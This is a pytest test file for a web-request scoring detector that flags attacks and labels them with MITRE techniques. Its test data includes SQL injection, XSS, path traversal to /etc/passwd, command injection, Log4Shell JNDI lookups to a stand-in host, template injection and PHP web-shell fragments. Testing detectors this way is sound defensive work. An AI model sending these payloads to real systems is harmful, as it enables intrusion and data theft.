"""Scoring requests: what is told, what is spared, and that the future changes nothing."""

from __future__ import annotations

import json

import pyarrow as pa
import pytest

from vedette.errors import BadInput
from vedette.scoring.requests import score_requests

ATTACKS = {
    "q=1%27%20or%20%271%27=%271": "T1190",
    "q=%3Cscript%3Ealert(1)%3C/script%3E": "T1059.007",
    "q=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E": "T1059.007",
    "f=../../../etc/passwd": "T1083",
    "f=..%252f..%252fetc%252fpasswd": "T1083",
    "h=8.8.8.8;cat%20/etc/passwd": "T1059.004",
    "x=${jndi:ldap://evil.example/a}": "T1190",
    "x={{7*7}}": "T1059.007",
    "x=%3C?php%20system($_GET[1]);": "T1190",
}

BENIGN = [
    "name=O%27Brien",
    "name=%F0%9F%98%80+hello",
    "q=select+a+nice+gift",
    "q=rock+%26+roll",
    "q=time+is+of+the+essence",
    "mail=jane.doe%2Bshop@example.com",
    "t=2026-02-01T10:00:00Z",
    "u=https%3A%2F%2Fshop.example%2Fcart%3Fid%3D7",
    "note=Call+me+(after+6)%3B+thanks!",
    "broken=100%&x=%zz",
]


def asked(*queries: str, **columns: list[object]) -> pa.Table:
    count = len(queries)
    return pa.table({"method": ["GET"] * count, "path": ["/search"] * count, "query": list(queries), **columns})


@pytest.mark.parametrize("query", ATTACKS)
def test_an_attack_is_told_without_any_history(query: str) -> None:
    scored = score_requests(asked(query))
    assert scored["alert"].to_pylist() == [1]
    assert scored["technique"].to_pylist() == [ATTACKS[query]]


@pytest.mark.parametrize("query", BENIGN)
def test_what_people_write_is_no_attack(query: str) -> None:
    assert score_requests(asked(query))["alert"].to_pylist() == [0]


def test_rows_that_train_are_not_judged() -> None:
    scored = score_requests(asked("q=%3Cscript%3E", train=[1]))
    assert (scored["score"].to_pylist(), scored["differed"].to_pylist()) == ([0.0], [None])


def test_what_is_learned_raises_what_is_strange() -> None:
    lesson = [f"id={number}" for number in range(500)]
    scored = score_requests(asked(*lesson, "id=17", "id=seven-(or)~eight", train=[1] * 500 + [0, 0]))
    usual, strange = scored["score"].to_pylist()[-2:]
    assert usual == 0.0
    assert strange > 0.2
    assert "hardly ever seen here" in scored["differed"].to_pylist()[-1]


def test_no_row_depends_on_later_ones() -> None:
    queries = ["q=red", "q=blue+'", "q=<b>", "q=green"]
    whole = score_requests(asked(*queries))["score"].to_pylist()
    assert score_requests(asked(*queries[:3]))["score"].to_pylist() == whole[:3]


def test_bodies_headers_cookies_and_paths_are_read() -> None:
    table = pa.table(
        {
            "method": ["POST"] * 6,
            "path": ["/a", "/a", "/a", "/a", "/.git/config", "/a?q=1;cat%20/etc/passwd"],
            "headers": [
                json.dumps({"Content-Type": "application/json"}),
                json.dumps({"User-Agent": "${jndi:ldap://x.example/a}"}),
                json.dumps({"Cookie": "a=1; b=<?php phpinfo(); ?>"}),
                json.dumps({"Content-Type": "multipart/form-data; boundary=x"}),
                None,
                "not json",
            ],
            "body": [
                '{"user": {"name": "1\' or 1=1 --"}}',
                None,
                None,
                '--x\nContent-Disposition: form-data; name="f"; filename="a.php"\n\nhello\n--x--\n',
                None,
                None,
            ],
        }
    )
    scored = score_requests(table)
    assert scored["alert"].to_pylist() == [1] * 6
    assert scored["differed"].to_pylist()[0].startswith("json: reads like a database query")


def test_a_broken_body_is_no_error() -> None:
    headers = [json.dumps({"Content-Type": "application/json"})]
    table = pa.table({"path": ["/a"], "headers": headers, "body": ['{"a": [1, ']})
    assert score_requests(table)["alert"].to_pylist() == [0]


def test_keys_are_kept_and_values_are_not_told() -> None:
    scored = score_requests(asked("q=hunter2'--", label=[3]))
    assert scored.column_names == ["method", "path", "query", "label", "score", "alert", "technique", "differed"]
    assert "hunter2" not in scored["differed"].to_pylist()[0]


def test_an_empty_table_has_no_verdicts() -> None:
    assert (
        score_requests(asked().cast(pa.schema([(name, pa.string()) for name in ("method", "path", "query")]))).num_rows
        == 0
    )


def test_a_table_without_paths_or_with_other_types_is_refused() -> None:
    with pytest.raises(BadInput, match="missing_column: path"):
        score_requests(pa.table({"query": ["a=1"]}))
    with pytest.raises(BadInput, match="train: expected 0 or 1"):
        score_requests(asked("a=1", train=["maybe"]))
